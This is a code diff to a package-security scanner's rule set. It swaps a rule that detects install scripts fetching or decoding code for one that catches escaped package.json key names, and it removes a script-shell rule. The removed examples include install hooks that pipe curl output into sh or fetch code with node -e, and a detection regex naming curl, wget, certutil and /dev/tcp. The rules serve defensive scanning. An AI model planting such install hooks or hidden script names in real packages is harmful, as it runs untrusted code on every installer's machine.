@@ -21,27 +21,21 @@ const ELSEWHERE = otherThan([
 /** Where packages come from, and what they may run when they arrive. */
 export const dependencyPatterns = [
   {
-    id: 'risk-install-download',
-    description: 'A package that downloads or decodes something when it is installed',
-    regex: raw`^\s*"(?:pre|post)?install"\s*:\s*"[^"]*(?:\b(?:curl|wget|powershell|certutil|bitsadmin)\b|\bnode\s+-e\b|\bpython3?\s+-c\b|\bbase64\b|https?://|/dev/tcp/)`,
+    id: 'risk-package-escaped-name',
+    description: 'A name in package.json whose letters are written as escapes',
+    regex: raw`"(?:[^"\\\n]|\\.)*\\u00[2-7][0-9a-fA-F](?:[^"\\\n]|\\.)*"\s*:`,
     path: PACKAGE_JSON,
-    keywords: ['install"'],
-    tags: [DOCUMENT_TAG],
+    keywords: ['\\u00'],
     severity: 'high',
-    message: 'Everybody who installs this, builds included, runs what that server sends.',
-    fix: 'Ship what is needed in the package, or as an optional dependency per platform.',
-    cwe: 'CWE-494',
-    source: 'https://docs.npmjs.com/cli/v11/using-npm/scripts',
+    message:
+      'Nobody writes letters this way but to hide a name, such as that of an install script.',
+    fix: 'Write the letters themselves.',
+    cwe: 'CWE-506',
+    source: 'https://www.rfc-editor.org/rfc/rfc8259#section-7',
     examples: {
       path: 'package.json',
-      match: [
-        '    "postinstall": "curl -s https://acme.io/setup.sh | sh",',
-        `    "preinstall": "node -e \\"require('https').get('...')\\"",`,
-      ],
-      noMatch: [
-        '    "postinstall": "node scripts/build.js",',
-        '    "start": "curl https://acme.io"',
-      ],
+      match: [raw`    "\u0070ostinstall": "node a.js",`, raw`    "post\u0069nstall": "node a.js"`],
+      noMatch: [raw`    "postinstall": "node a.js",`, raw`    "description": "caf\u00e9",`],
     },
   },
   {
@@ -106,31 +100,6 @@ export const dependencyPatterns = [
       path: 'package.json',
       match: ['    "onlyBuiltDependencies": ["esbuild"]', '  "trustedDependencies": ["sharp"]'],
       noMatch: ['    "neverBuiltDependencies": ["sharp"]', '  "dependencies": {'],
-    },
-  },
-  {
-    id: 'risk-script-shell',
-    description: 'All scripts of packages are run by a program that the repository names',
-    regex: raw`^\s*(?:script-shell|scriptShell|shell)\s*[=:]\s*["']?(?:\.{0,2}/(?:[\w.-]+/)*[\w.-]+|[\w.-]+/[\w./-]+|[^\s"']+\s+\S)`,
-    path: raw`(?:^|/)(?:\.npmrc|pnpm-workspace\.yaml)$`,
-    keywords: ['script-shell', 'scriptshell', 'shell'],
-    allowlists: [
-      TESTS,
-      {
-        description: 'shells of the system',
-        regexTarget: 'match',
-        regexes: [raw`[=:]\s*["']?/(?:usr/)?(?:local/)?bin/(?:ba|z|da|k)?sh["']?$`],
-      },
-    ],
-    severity: 'medium',
-    message: 'This program sees and runs each script, of every package that is installed.',
-    fix: 'Use a shell of the system.',
-    cwe: 'CWE-829',
-    source: 'https://docs.npmjs.com/cli/v11/using-npm/config#script-shell',
-    examples: {
-      path: '.npmrc',
-      match: ['script-shell=./tools/sh', 'script-shell = bash -c'],
-      noMatch: ['script-shell=/bin/bash', 'save-exact=true'],
     },
   },
   {
